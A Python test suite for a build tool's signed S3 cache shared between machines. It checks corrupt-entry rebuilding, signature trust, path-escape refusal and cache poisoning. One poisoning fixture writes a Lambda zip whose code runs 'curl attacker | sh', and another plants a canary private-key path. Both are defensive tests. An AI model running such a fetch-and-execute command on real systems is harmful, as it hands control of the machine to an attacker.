"""A cache shared between machines in S3, on moto's HTTP server: machine B downloads what machine A built, and a
corrupt entry is discarded and rebuilt, never used."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import boto3
from helpers import package_json

from deeplens_build import testing

CACHE = "s3://deeplens-build-cache/ci"
BUILT = {"convert", "optimize", "parity", "lambda", "greengrass"}


def _machine(tmp_path: Path, name: str, source: Path) -> Path:
    """A fresh checkout of the same project on another machine: its own work folder, the same inputs and the
    same CI signing key (so the bundles can be compared byte for byte)."""
    config = testing.write_project(tmp_path / name / "project", source=source, build={"cache": CACHE},
                                   inputs={"data": {"shape": [1, 3, 32, 32]}})
    key = testing.signing_key(tmp_path / "ci-key")
    for path in (key, key.with_name("signing-key.pub.pem")):
        shutil.copy(path, config.parent / path.name)
    return config


def _put_signed(s3, key: str, result: bytes, private_key: Path) -> None:
    """Write ``result`` at ``key`` with a valid signature by ``private_key``: what the machine holding it (a
    trusted one, compromised or mistaken) could upload."""
    import base64

    from deeplens_build.cache import _statement
    from deeplens_build.signing import fingerprint, load_signer

    _, version, stage, name = key.split("/")
    signer = load_signer(str(private_key))
    signature = {"key": fingerprint(signer.public_key_pem), "algorithm": "ECDSA_P256_SHA256",
                 "signature": base64.b64encode(signer.sign(_statement(stage, name.removesuffix(".json"),
                                                                      result))).decode()}
    s3.put_object(Bucket="deeplens-build-cache", Key=f"ci/{version}/signatures/{stage}/{name}",
                  Body=json.dumps(signature).encode())
    s3.put_object(Bucket="deeplens-build-cache", Key=key, Body=result)


def test_a_second_machine_downloads_instead_of_converting(aws: str, tmp_path: Path, onnx_model_dir: Path) -> None:
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="deeplens-build-cache")
    first = package_json(_machine(tmp_path, "a", onnx_model_dir))
    assert first["cached_stages"] == []
    stored = {o["Key"].split("/")[2] for o in s3.list_objects_v2(Bucket="deeplens-build-cache")["Contents"]}
    assert BUILT <= stored, "complete entries were uploaded"
    second = package_json(_machine(tmp_path, "b", onnx_model_dir))
    assert BUILT <= set(second["cached_stages"]), "machine B converted nothing"
    assert second["sha256"] == first["sha256"]


def test_a_corrupt_shared_entry_is_rebuilt_not_used(aws: str, tmp_path: Path, onnx_model_dir: Path) -> None:
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="deeplens-build-cache")
    first = package_json(_machine(tmp_path, "a", onnx_model_dir))
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket="deeplens-build-cache")["Contents"]]
    [convert] = [k for k in keys if k.split("/")[2] == "convert"]
    s3.put_object(Bucket="deeplens-build-cache", Key=convert, Body=b"not a result")  # truncated or garbage
    second = package_json(_machine(tmp_path, "b", onnx_model_dir))
    assert "convert" not in second["cached_stages"] and "parity" in second["cached_stages"]
    assert any("the convert entry" in w and "has a signature that does not verify" in w for w in second["warnings"])

    held = json.loads(s3.get_object(Bucket="deeplens-build-cache", Key=convert)["Body"].read())["files"]
    weights = convert.split("/convert/")[0] + "/blobs/" + held["model.onnx.data"]  # optimize holds them too
    data = bytearray(s3.get_object(Bucket="deeplens-build-cache", Key=weights)["Body"].read())
    data[2048] ^= 0xFF  # one byte, in an object of the right size
    s3.put_object(Bucket="deeplens-build-cache", Key=weights, Body=bytes(data))
    third = package_json(_machine(tmp_path, "c", onnx_model_dir))
    assert "convert" not in third["cached_stages"], "the damaged weights were not used"
    assert "optimize" in third["cached_stages"], "optimize took the weights machine C had just converted"
    assert any("does not match its digest" in w for w in third["warnings"])
    repaired = s3.get_object(Bucket="deeplens-build-cache", Key=weights)["Body"].read()
    assert hashlib.sha256(repaired).hexdigest() == weights.rsplit("/", 1)[-1], "machine C uploaded them again"

    fourth = package_json(_machine(tmp_path, "d", onnx_model_dir))
    assert BUILT <= set(fourth["cached_stages"]) and not fourth["warnings"]
    assert first["sha256"] == second["sha256"] == third["sha256"] == fourth["sha256"]


def test_a_shared_result_naming_a_file_outside_its_entry_is_not_used(aws: str, tmp_path: Path,
                                                                     onnx_model_dir: Path) -> None:
    """Digests only vouch for the files an entry holds: a result whose artifact is some other file of this machine
    (a key, a credential) would be read and signed into the bundle. It is refused, and the stage built here."""
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="deeplens-build-cache")
    first = package_json(_machine(tmp_path, "a", onnx_model_dir))
    canary = tmp_path / "canary.pem"
    canary.write_text("-----BEGIN PRIVATE KEY----- not for a bundle\n")
    [convert] = [o["Key"] for o in s3.list_objects_v2(Bucket="deeplens-build-cache")["Contents"]
                 if o["Key"].split("/")[2] == "convert"]
    recorded = json.loads(s3.get_object(Bucket="deeplens-build-cache", Key=convert)["Body"].read())
    recorded["result"]["labels"] = str(canary)
    _put_signed(s3, convert, json.dumps(recorded).encode(), testing.signing_key(tmp_path / "ci-key"))
    second = package_json(_machine(tmp_path, "b", onnx_model_dir))
    assert "convert" not in second["cached_stages"]
    assert any("a path outside the entry" in w for w in second["warnings"])
    assert second["sha256"] == first["sha256"], "the canary is not in the bundle"


def test_a_file_two_entries_hold_is_stored_and_fetched_once(aws: str, tmp_path: Path, onnx_model_dir: Path) -> None:
    """The converted weights and the optimized ones are the same bytes: one blob, uploaded and downloaded once."""
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="deeplens-build-cache")
    package_json(_machine(tmp_path, "a", onnx_model_dir))
    contents = s3.list_objects_v2(Bucket="deeplens-build-cache")["Contents"]
    results = [o["Key"] for o in contents if o["Key"].endswith(".json") and o["Key"].split("/")[2] != "signatures"]
    blobs = [o["Key"] for o in contents if o["Key"].split("/")[2] == "blobs"]
    held = [sha for key in results for sha in json.loads(
        s3.get_object(Bucket="deeplens-build-cache", Key=key)["Body"].read())["files"].values()]
    assert len(held) > len(set(held)) == len(blobs), "some file is held by two entries, stored once"


def test_an_unreachable_shared_cache_is_a_warning_and_a_local_build(tmp_path: Path, onnx_model_dir: Path) -> None:
    report = package_json(_machine(tmp_path, "a", onnx_model_dir))  # AWS_ENDPOINT_URL points at a closed port
    assert report["cached_stages"] == []
    [warning] = [w for w in report["warnings"] if w.startswith("shared cache")]  # said once, not per stage
    assert "shared cache s3://deeplens-build-cache/ci: cannot reach it" in warning


def _poison_lambda_entry(s3) -> None:
    """What an attacker who can write the bucket but holds no trusted key can do: a Lambda zip of their own as a
    blob, and the lambda entry's result rewritten so that every digest in it agrees (its old signature kept)."""
    import io
    import zipfile

    contents = s3.list_objects_v2(Bucket="deeplens-build-cache")["Contents"]
    [entry] = [o["Key"] for o in contents if o["Key"].split("/")[2] == "lambda"]
    text = s3.get_object(Bucket="deeplens-build-cache", Key=entry)["Body"].read().decode()
    [(name, genuine)] = [(rel, sha) for rel, sha in json.loads(text)["files"].items() if rel.endswith(".zip")]
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, "w") as archive:
        archive.writestr("inference.py", "import os\nos.system('curl attacker | sh')\n")
    poisoned = payload.getvalue()
    digest = hashlib.sha256(poisoned).hexdigest()
    s3.put_object(Bucket="deeplens-build-cache", Key=entry.split("/lambda/")[0] + f"/blobs/{digest}", Body=poisoned)
    s3.put_object(Bucket="deeplens-build-cache", Key=entry, Body=text.replace(genuine, digest).encode())


def test_a_poisoned_self_consistent_entry_is_never_used(aws: str, tmp_path: Path, onnx_model_dir: Path) -> None:
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="deeplens-build-cache")
    package_json(_machine(tmp_path, "a", onnx_model_dir))
    _poison_lambda_entry(s3)
    second = package_json(_machine(tmp_path, "b", onnx_model_dir))
    assert "lambda" not in second["cached_stages"] and "convert" in second["cached_stages"]
    assert any("the lambda entry" in w and "signature that does not verify" in w for w in second["warnings"])
    alone = _machine(tmp_path, "c", onnx_model_dir)
    alone.write_text(alone.read_text().replace(f'cache = "{CACHE}"', ""))
    assert second["sha256"] == package_json(alone)["sha256"], "bit-identical to a build without the cache"


def test_entries_are_taken_only_from_trusted_keys(aws: str, tmp_path: Path, onnx_model_dir: Path) -> None:
    """Machines B and C hold keys of their own: C takes A's entries, A's public key being in its [build]
    cache_trust; B, trusting only its own key, refuses them and builds (its entries, signed by it, replace A's)."""
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="deeplens-build-cache")
    package_json(_machine(tmp_path, "a", onnx_model_dir))
    trusting = testing.write_project(tmp_path / "c" / "project", source=onnx_model_dir,
                                     build={"cache": CACHE,
                                            "cache_trust": [str(tmp_path / "ci-key" / "signing-key.pub.pem")]},
                                     inputs={"data": {"shape": [1, 3, 32, 32]}})
    taken = package_json(trusting)
    assert BUILT - {"lambda", "greengrass"} <= set(taken["cached_stages"]), "A's entries, by a trusted key, used"
    assert not [w for w in taken["warnings"] if "shared cache" in w]
    own = testing.write_project(tmp_path / "b" / "project", source=onnx_model_dir, build={"cache": CACHE},
                                inputs={"data": {"shape": [1, 3, 32, 32]}})
    refused = package_json(own)
    assert not set(refused["cached_stages"]) & BUILT
    assert any("which this build does not trust" in w and "[build] cache_trust" in w for w in refused["warnings"])


def test_a_trusted_key_that_is_not_one_is_a_config_error(tmp_path: Path, onnx_model_dir: Path) -> None:
    wrong = tmp_path / "colleague.pub.pem"
    wrong.write_text("not a key\n")
    config = testing.write_project(tmp_path / "p", source=onnx_model_dir,
                                   build={"cache": CACHE, "cache_trust": [str(wrong)]})
    message = package_json(config, expect=3)
    assert message == f"error: Field `build.cache_trust`: {wrong} is not a PEM public key"
